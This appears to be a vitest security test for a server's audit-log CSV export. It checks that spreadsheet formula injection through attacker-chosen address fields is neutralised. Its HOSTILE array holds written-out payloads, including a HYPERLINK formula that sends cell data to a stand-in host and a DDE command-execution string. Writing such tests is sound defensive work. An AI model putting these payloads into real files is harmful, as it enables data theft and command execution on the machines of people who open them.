// Attack (issue 15, item 13): formula injection through the audit export. A cell that starts
// with =, +, -, @ runs as a formula when an administrator opens audit.csv in a spreadsheet
// (=HYPERLINK(...) exfiltrates neighbouring cells; DDE formulas can run commands). The address
// column holds whatever a client's proxy chain said, so an attacker can choose its text.
// Defence: the export prefixes such cells with ' (csv-stringify's escape_formulas) and quotes
// commas, so no cell starts a formula and no column shifts.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildApp } from "../../src/server/app.js";
import { appendAudit } from "../../src/server/audit/audit.repository.js";
import { seedDemo } from "../../src/server/demo/seedDemo.js";
import type { App } from "../../src/server/http/types.js";
import {
  DIALECTS,
  testRuntime,
  type TestRuntime,
} from "../support/dialects.js";
import { signIn } from "../support/http.js";

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  "-1+1",
  "@SUM(1,2)",
];

describe.each(DIALECTS)("audit CSV formula injection on %s", (dialect) => {
  let runtime: TestRuntime;
  let app: App;

  beforeAll(async () => {
    runtime = await testRuntime(dialect);
    await seedDemo(runtime.context);
    app = await buildApp(runtime.context, { logger: false });
  });
  afterAll(async () => {
    await app.close();
    await runtime.dispose();
  });

  it("exports no cell that a spreadsheet would run", async () => {
    const admin = await signIn(app, "admin@demo.rapport.test");
    const me = (await admin.get("/api/me")).json<{
      id: string;
      organisationId: string;
    }>();
    // Entries whose address an attacker chose (as a permissive proxy would have passed it on).
    await appendAudit(
      runtime.context.db,
      HOSTILE.map((source) => ({
        organisationId: me.organisationId,
        actorId: null,
        clientId: null,
        action: "auth.login-failed",
        source,
        at: new Date("2026-11-25T09:00:00Z").toISOString(),
      })),
    );
    const csv = await admin.get("/api/audit/export?action=auth.login-failed");
    expect(csv.statusCode).toBe(200);
    const lines = csv.body.trim().split("\n").slice(1);
    expect(lines).toHaveLength(HOSTILE.length);
    for (const line of lines) {
      // Every cell, unquoted, must not begin with a formula character.
      const cells = line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [];
      for (const cell of cells) {
        const value = cell.replace(/,$/, "").replace(/^"|"$/g, "");
        expect(value).not.toMatch(/^[=+\-@\t\r]/);
      }
      expect(cells.filter((c) => c !== "")).toHaveLength(9);
    }
  });
});
